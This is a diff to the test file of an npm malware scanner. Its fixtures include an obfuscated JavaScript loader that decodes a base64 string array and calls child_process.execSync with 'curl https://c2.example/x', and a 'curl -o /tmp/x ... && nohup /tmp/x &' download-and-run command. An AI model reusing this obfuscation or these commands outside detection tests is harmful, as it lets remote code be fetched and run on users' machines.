@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import json
 
+import pytest
+
 from npmward.analyzers.base import AnalysisContext
 from npmward.analyzers.code import CodeAnalyzer
+from npmward.analyzers.code.behaviours import sends
 from npmward.analyzers.code.extract import extract
 from npmward.analyzers.code.strings import decode_script_char_codes, unescape
 from npmward.model import Artifact, Level, PackageId
@@ -641,6 +644,30 @@ def test_a_command_template_filled_by_replace_is_the_command_it_makes():
     run = next(f for f in facts if f.kind == "call" and f.value == "child_process.execSync")
     assert run.shapes == ("curl -o /tmp/x ${*} && nohup /tmp/x &",)
     assert next(f for f in facts if f.kind == "call" and f.value == "use").args == ("a-b.c", "a-b-c", None)
+
+
+STRING_ARRAY = (b"function _0xa(){var _a=['aHR0cHM6Ly9jMi5leGFtcGxlL3g=','aG9zdG5hbWU=','Y2hpbGRfcHJvY2Vzcw==','ZXhlY1N5bmM='];"
+                b"_0xa=function(){return _a;};return _0xa();}"
+                b"(function(_f,_n){var _g=_f();while(!![]){try{if(Buffer.from(_g[0],'base64').toString()==='child_process')break;"
+                b"_g.push(_g.shift());}catch(_e){_g.push(_g.shift());}}}(_0xa,0));"
+                b"function _0xd(i){const a=_0xa();return Buffer.from(a[i],'base64').toString('utf8')}"
+                b"require(_0xd(0))[_0xd(1)]('curl '+_0xd(2));")
+
+
+@pytest.mark.parametrize("wrapped", [
+    b"var __webpack_modules__={441:(module,exports,__webpack_require__)=>{%s}};",  # a webpack module's factory
+    b"if (require.main === module) { run(); try{%s}catch(e){} }",  # a script's own block, a try that must not throw
+])
+def test_a_string_array_folds_inside_bundle_modules_and_blocks_rotated_until_its_first_element_matches(wrapped):
+    # (blind set 34's Discord bot and GitVenom stealer: hand-made copies of the obfuscator's array, turned until the
+    # first string decodes to a constant, and a decoder that indexes a local copy of the array)
+    calls = [f for f in extract("index.js", wrapped % STRING_ARRAY).facts if f.kind == "call"]
+    assert any(f.value == "child_process.execSync" and f.args[:1] == ("curl https://c2.example/x",) for f in calls)
+
+
+def test_fetch_through_the_global_object_is_a_request():
+    src = b"globalThis.fetch(u, {method: 'POST'}); window.fetch(v); self.fetch(w);\n"
+    assert all(sends(f) for f in extract("index.js", src).facts if f.kind == "call")
 
 
 def test_slice_with_one_argument_folds_from_that_index_as_in_javascript():
